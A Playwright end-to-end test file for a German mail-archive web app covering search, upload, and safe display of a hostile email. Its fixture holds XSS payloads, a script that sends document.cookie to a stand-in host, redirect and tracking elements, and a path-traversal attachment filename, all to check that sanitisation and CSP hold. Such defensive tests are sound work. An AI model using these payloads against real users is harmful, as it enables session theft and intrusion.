import assert from 'node:assert/strict'
import type { Page } from '@playwright/test'
import { PHONE } from '../browser.ts'
import { assertAccessible, assertFits } from '../checks.ts'
import { assertOneRefused } from './checks.ts'
import { type Panel, visit } from './panel.ts'
import { expect, test } from './test.ts'

const crlf = (...lines: readonly string[]) => Buffer.from(`${lines.join('\r\n')}\r\n`)

const HOSTILE = crlf(
  'From: "<img src=x onerror=alert(1)>" <boese@boese.example>',
  'To: wehr@ff-lindenau.example',
  'Subject: =?utf-8?q?Angebot_Tragkraftspritze_=3Cscript=3Ealert=281=29=3C/script=3E?=',
  'Date: Mon, 02 Nov 2026 09:00:00 +0100',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary=m',
  '',
  '--m',
  'Content-Type: multipart/related; boundary=r',
  '',
  '--r',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><head><meta http-equiv="refresh" content="0;url=https://boese.example/weg">',
  '<link rel="stylesheet" href="https://boese.example/a.css"><base href="https://boese.example/"></head>',
  '<body onload="alert(1)" style="background:url(https://boese.example/hintergrund.png)"><h1>Angebot</h1>',
  '<script>fetch("https://boese.example/?"+document.cookie)</script>',
  '<img src="https://boese.example/pixel.gif" alt="Pixel"><img src="cid:logo" alt="Logo" width="20">',
  '<a href="https://boese.example/klick">Unser Angebot ansehen</a>',
  '<form action="https://boese.example"><button>Senden</button></form></body></html>',
  '--r',
  'Content-Type: image/png',
  'Content-ID: <logo>',
  'Content-Transfer-Encoding: base64',
  '',
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  '--r--',
  '--m',
  'Content-Type: text/html',
  'Content-Disposition: attachment; filename="../../rechnung\u00fc.html"',
  '',
  '<script>alert(1)</script>',
  '--m--',
)

const MBOX = Buffer.concat(
  ['Hydrantenplan', 'Atemschutzstrecke', 'Hydrantenplan'].map((subject) =>
    Buffer.from(`From x Mon Nov  2 09:00:00 2026\nFrom: a@muster.example\nSubject: ${subject}\n\nText\n\n`),
  ),
)

async function upload(page: Page, panel: Panel, name: string, buffer: Buffer): Promise<void> {
  await page.goto(`${panel.url}/quellen`)
  await page.locator('input[type=file]').setInputFiles({ name, mimeType: 'application/octet-stream', buffer })
}

async function openMail(page: Page, panel: Panel, query: string): Promise<void> {
  await page.goto(`${panel.url}/suche?q=${encodeURIComponent(query)}`)
  await page.getByRole('list', { name: 'Treffer' }).getByRole('link').first().click()
  await expect(page.getByRole('link', { name: 'Zur Trefferliste' })).toBeVisible()
}

/** A trace would run a script in the frame of a mail, which the frame refuses. */
test.use({ start: { hasDemo: true }, trace: 'off' })

test('a search marks what it found, says how it was read, and stands in the address', async ({ panel }) => {
  const visitor = await visit(panel)
  const { page } = visitor
  await page.goto(panel.url)
  await expect(page.getByRole('heading', { level: 1, name: 'Übersicht' })).toBeVisible()
  await page.keyboard.press('/')
  await expect(page.getByRole('heading', { level: 1, name: 'Suche' })).toBeVisible()
  await page.getByRole('searchbox').fill('DREHLEITER -newsletter')
  await page.keyboard.press('Enter')
  await expect(page.locator('mark', { hasText: 'Drehleiter' }).first()).toBeVisible()
  await expect(page.getByText('mit „DREHLEITER“ und ohne „newsletter“')).toBeVisible()
  await page.getByRole('button', { name: 'Von', exact: true }).click()
  await page.getByLabel('Absender').fill('@ff-lindenau.example')
  await page.keyboard.press('Enter')
  await expect(page).toHaveURL(/from=%40ff-lindenau.example/)
  await expect(page.getByText(', von @ff-lindenau.example')).toBeVisible()
  await assertAccessible(page, 'hits')

  await page.getByText('Dieselbe Suche für Programme').click()
  const line = (await page.locator('pre').textContent()) ?? ''
  const address = /'(http[^']+)'/.exec(line)?.[1] ?? ''
  const keys = await panel.command('keys', 'create', '--role', 'auditor', '--name', 'e2e')
  const answer = await page.request.get(address, { headers: { authorization: `Bearer ${keys.trim()}` } })
  const { total } = (await answer.json()) as { total: number }
  await expect(page.getByText(new RegExp(`^${total} Mails? `))).toBeVisible()

  await page.reload()
  await expect(page.getByText(', von @ff-lindenau.example')).toBeVisible()
  await page.getByRole('button', { name: 'Filter Von entfernen' }).click()
  await page.waitForURL((url) => !url.search.includes('from='))

  await page.getByRole('searchbox').fill('*')
  await page.keyboard.press('Enter')
  await expect(page.getByText('Suche: Enthält „*“: ein Wort mit den Platzhaltern')).toBeVisible()
  assertOneRefused(visitor)
})

test('the query language is explained beside the field, and an example is one tap away', async ({ panel }) => {
  const { page } = await visit(panel, { size: PHONE })
  await page.goto(`${panel.url}/suche`)
  await page.getByRole('button', { name: 'Suchsprache' }).click()
  const help = page.getByRole('dialog', { name: 'Suchsprache' })
  await expect(help).toBeVisible()
  await assertAccessible(page, 'query language')
  await help.getByRole('button', { name: /has:attachment/ }).click()
  await expect(help).toHaveCount(0)
  await expect(page.getByRole('searchbox')).toHaveValue('has:attachment')
  await page.getByRole('button', { name: 'Suchen' }).click()
  await expect(page.getByText('mit Anhang', { exact: false }).first()).toBeVisible()
  await assertFits(page, 'hits on a phone')
})

test('an upload shows its progress and its balance; the same mails again are doubles', async ({ panel }) => {
  const visitor = await visit(panel)
  const { page } = visitor
  await upload(page, panel, 'Hydranten.mbox', MBOX)
  await expect(page.getByText('3 gelesen = 2 neu + 1 doppelt + 0 abgelehnt')).toBeVisible()
  await upload(page, panel, 'noch einmal.mbox', MBOX)
  await expect(page.getByText('3 gelesen = 0 neu + 3 doppelt + 0 abgelehnt')).toBeVisible()
  await page.locator('input[type=file]').setInputFiles({ name: 'Liste.xlsx', mimeType: 'x/y', buffer: MBOX })
  await expect(page.getByRole('alert').getByText('Liste.xlsx: Muss auf .eml')).toBeVisible()
  await assertAccessible(page, 'uploads')
  await openMail(page, panel, 'Atemschutzstrecke')
  await expect(page.getByText('Hochgeladen: Hydranten.mbox')).toBeVisible()
  assertOneRefused(visitor)
})

test('a hostile mail is shown: its HTML runs nothing, loads nothing and leads nowhere', async ({ panel }) => {
  const { page } = await visit(panel)
  await upload(page, panel, 'boese.eml', HOSTILE)
  await expect(page.getByText('1 gelesen = 1 neu')).toBeVisible()
  await openMail(page, panel, 'Tragkraftspritze')
  await expect(
    page.getByRole('heading', { level: 1, name: 'Angebot Tragkraftspritze <script>alert(1)</script>' }),
  ).toBeVisible()
  const [loaded] = await Promise.all([page.waitForResponse(/\/html$/), page.getByText('Gestaltet').click()])
  assert.equal(loaded.status(), 200)
  await page.waitForLoadState('networkidle')
  await assertAccessible(page, 'mail')

  const [attachment] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: /html/ }).click(),
  ])
  assert.doesNotMatch(attachment.suggestedFilename(), /[/\\]/)
  const [original] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Original herunterladen' }).click(),
  ])
  assert.deepEqual(Buffer.concat(await (await original.createReadStream()).toArray()), HOSTILE)
})

test('the HTML of a mail keeps its pictures and nothing that acts, and is locked in however it is opened', async ({
  panel,
}) => {
  const visitor = await visit(panel)
  await openMail(visitor.page, panel, 'Tragkraftspritze')
  const id = /mails\/([^?]+)/.exec(visitor.page.url())?.[1]
  const answer = await visitor.page.request.get(`${panel.url}/api/mails/${id}/html`)
  const html = await answer.text()
  assert.match(html, /<img alt="Pixel"><img src="data:image\/png;base64,/)
  assert.match(html, /<a title="https:\/\/boese.example\/klick">Unser Angebot ansehen<\/a>/)
  assert.doesNotMatch(html, /<script|<link|http-equiv|<base|<form|href=|onload/i)
  const policy = answer.headers()['content-security-policy'] ?? ''
  for (const part of ['sandbox;', "default-src 'none'", 'img-src data:', "form-action 'none'"])
    assert.ok(policy.includes(part), part)
  assert.equal(answer.headers()['x-content-type-options'], 'nosniff')
})

test('the proof of a mail is downloaded', async ({ panel }) => {
  const { page } = await visit(panel)
  await openMail(page, panel, 'Drehleiter')
  const [proof] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Nachweis herunterladen' }).click(),
  ])
  assert.match(proof.suggestedFilename(), /\.tlog-proof$/)
})
